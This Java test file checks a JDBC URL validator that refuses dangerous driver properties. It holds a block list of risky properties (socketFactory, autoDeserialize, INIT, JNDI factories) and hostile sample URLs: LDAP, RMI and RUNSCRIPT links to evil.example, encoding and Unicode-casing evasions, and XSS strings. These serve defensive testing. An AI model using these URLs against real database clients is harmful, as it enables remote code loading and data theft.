// SPDX-License-Identifier: Apache-2.0
package dev.assay.execute;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.assay.AssayException;
import dev.assay.execute.internal.DatabaseUnavailableException;
import dev.assay.execute.internal.Engines;
import dev.assay.execute.internal.UrlProperties;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class UrlPropertiesTest {
  private static final List<String> SERVERS =
      List.of(
          "jdbc:postgresql://db.example/shop",
          "jdbc:mysql://db.example/shop",
          "jdbc:sqlserver://db.example",
          "jdbc:somethingelse://db.example/shop");

  private static Optional<UrlProperties.Refusal> refusal(String url) {
    return UrlProperties.refusal(DatabaseAddress.of("shop", url));
  }

  /** Each in every spelling that some driver understands. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "INIT",
        "socketFactory",
        "socketFactoryArg",
        "sslfactory",
        "sslfactoryarg",
        "sslhostnameverifier",
        "sslpasswordcallback",
        "authenticationPluginClassName",
        "allowLoadLocalInfile",
        "allowLoadLocalInfileInPath",
        "allowLocalInfile",
        "allowUrlInLocalInfile",
        "autoDeserialize",
        "queryInterceptors",
        "statementInterceptors",
        "exceptionInterceptors",
        "connectionLifecycleInterceptors",
        "propertiesTransform",
        "ha.loadBalanceStrategy",
        "allowMultiQueries",
        "loggerFile",
        "logDir",
        "LogPath",
        "jaasApplicationName",
        "jaasConfigurationName",
        "KrbJAASFile",
        "KerberosConfigPath",
        "java.naming.factory.initial",
        "javax.naming.spi",
        "clientRerouteServerListJNDIName",
        "TRACE_LEVEL_FILE",
        "traceFile",
        "traceDirectory",
        "FORBID_CREATION",
        "DATABASE_EVENT_LISTENER",
        "JAVA_OBJECT_SERIALIZER",
        "trustManagerClass",
        "socketFactoryClass",
        "accessTokenCallbackClass",
        "pluginClassName",
        "plugin_name",
        "dnsResolver",
        "iniFile",
        "initFile",
        "connectionInitSql",
        "sessionVariables",
        "enablePutGet",
        "VolumeOperationAllowedLocalPaths",
        "BYOID_CredentialSource",
        "oracle.jdbc.debugJDWP",
        "oracle.net.tns_admin",
        "createFrom"
      })
  void refusesPropertiesThatDoHarmInEverySpelling(String name) {
    for (String server : SERVERS) {
      for (String spelled : List.of(name, name.toUpperCase(Locale.ROOT), encoded(name))) {
        for (String url : urls(server, spelled)) {
          assertThat(refusal(url)).as(url).isPresent();
        }
      }
      DatabaseAddress beside =
          new DatabaseAddress(
              "shop", server, null, null, Map.of(name.toLowerCase(Locale.ROOT), "x"));
      assertThat(UrlProperties.refusal(beside)).as(beside.toString()).isPresent();
    }
  }

  private static List<String> urls(String server, String name) {
    List<String> urls = new ArrayList<>();
    for (String start :
        List.of("?", "?ssl=true&", ";", ";ssl=true;", ";ssl={a;b};", "?a=b; ", ":")) {
      urls.add(server + start + name + "=x");
    }
    urls.add(server.replace("//", "//(host=h," + name + "=x)@"));
    urls.add(server.replace("//", "//address=(host=h)(" + name + " = x)"));
    return urls;
  }

  private static String encoded(String name) {
    return "%%%02X".formatted((int) name.charAt(0)) + name.substring(1);
  }

  @Test
  void readsPercentEncodingMoreThanOnce() {
    assertThat(refusal("jdbc:mysql://h/shop?%2561utoDeserialize=true")).isPresent();
    assertThat(refusal("jdbc:mysql://h/shop%3FautoDeserialize=true")).isPresent();
  }

  @Test
  void refusesLettersThatBecomeOthersAsCapitals() {
    assertThat(refusal("jdbc:x://h/shop;\u0131nit=x")).isPresent();
    assertThat(refusal("jdbc:x://h/shop?\u017focketFactory=x")).isPresent();
    assertThat(refusal("jdbc:x://h/shop?\uff49nit=x")).isPresent();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:oracle:thin:@ldap://dir.example/cn=x",
        "jdbc:oracle:thin:@LDAPS://dir.example/cn=x",
        "jdbc:oracle:thin:@config-https://evil.example/x",
        "jdbc:x://h/shop?y=rmi://evil.example/x",
        "jdbc:x://h/shop?y=rmi%3A%2F%2Fevil.example/x",
        "jdbc:x://h/shop;y=RUNSCRIPT FROM 'http://evil.example/x'",
        "jdbc:x://h/shop\n;y=z"
      })
  void refusesUrlsThatPointToCode(String url) {
    assertThat(refusal(url)).isPresent();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://db.example:5432/shop?currentSchema=shop&sslmode=verify-full",
        "jdbc:mysql://db.example/shop?characterEncoding=UTF-8&useSSL=true",
        "jdbc:mariadb://[::1]:3306/shop?sslMode=verify-full",
        "jdbc:sqlserver://db.example\\\\inst;databaseName=shop;encrypt=true;password={a;b}",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCPS)(HOST=h)(PORT=1))(CONNECT_DATA=(SERVICE_NAME=s)))",
        "jdbc:oracle:thin:@//db.example:1521/shop",
        "jdbc:snowflake://a.snowflakecomputing.com/?warehouse=w&db=d&role=r",
        "jdbc:databricks://h:443;httpPath=/sql/1.0/warehouses/x;AuthMech=3;UID=token",
        "jdbc:trino://h:8080/hive/shop?SSL=true&timezone=UTC",
        "jdbc:db2://h:50000/SHOP:currentSchema=A;sslConnection=true;",
        "jdbc:h2:file:/data/shop;ACCESS_MODE_DATA=r;IFEXISTS=TRUE",
        "jdbc:sqlite:/data/shop ä1%20.db"
      })
  void letsOrdinaryUrlsThrough(String url) {
    assertThat(refusal(url)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:duckdb:/data/shop.db;session_init_sql_file=/tmp/x.sql",
        "jdbc:duckdb:/data/shop.db;allow_unsigned_extensions=true",
        "jdbc:sqlite:/data/shop.db?enable_load_extension=true",
        "jdbc:h2:mem:shop;AUTO_SERVER=TRUE",
        "jdbc:h2:/data/shop;PASSWORD_HASH=TRUE",
        "jdbc:H2:/data/shop;init=x"
      })
  void letsEmbeddedDatabasesHaveOnlyWhatIsKnownToBeHarmless(String url) {
    assertThat(refusal(url)).isPresent();
  }

  @Test
  void opensNoSessionForARefusedAddress() {
    DatabaseAddress address = DatabaseAddress.of("shop", "jdbc:x://h/shop?socketFactory=geheim");
    Engine engine =
        (asked, settings) -> {
          throw new AssertionError("asked for " + asked);
        };
    assertThatThrownBy(() -> Engines.open(List.of(engine), address, SessionSettings.DEFAULT))
        .isInstanceOf(AssayException.class)
        .isNotInstanceOf(DatabaseUnavailableException.class)
        .hasMessageContaining("'shop'")
        .hasMessageContaining("'socketFactory'")
        .hasMessageNotContaining("geheim");
  }

  /** The questions' ids, and the files they name, are not the user's properties. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "<img src=x onerror=alert(1)> | sqlite:/d/<img src=x onerror=alert(1)>.sqlite | this id",
        "<img src=x onerror=alert(1)> | duckdb:/d/<img src=x onerror=alert(1)>.duckdb | this id",
        "<img src=x onerror=alert(1)> | h2:/d/<img src=x onerror=alert(1)> | this id",
        "a?mode=rw | sqlite:/d/a?mode=rw.sqlite | this id",
        "a;init=x | h2:/d/a;init=x | this id",
        "a&b=c | sqlite:/d/a&b=c/a&b=c.db | this id",
        "shop | sqlite:/d/size (n=1)/shop.sqlite | the path of its file",
        "shop | h2:/d/size (n=1)/shop;MODE=MySQL | the path of its file",
        "shop | duckdb:/d/x,y=1.duckdb | the path of its file",
        "shop | sqlite:/d/shop.sqlite?mode=rw | the driver property 'mode'",
        "shop | h2:/d/shop;INIT=x | the driver property 'INIT'",
      })
  void tellsTheNameOfAFileFromAProperty(String id, String url, String reason) {
    assertThatThrownBy(() -> UrlProperties.check(DatabaseAddress.of(id, "jdbc:" + url)))
        .isInstanceOf(AssayException.class)
        .hasMessageStartingWith("database '%s': %s", id, reason);
  }
}
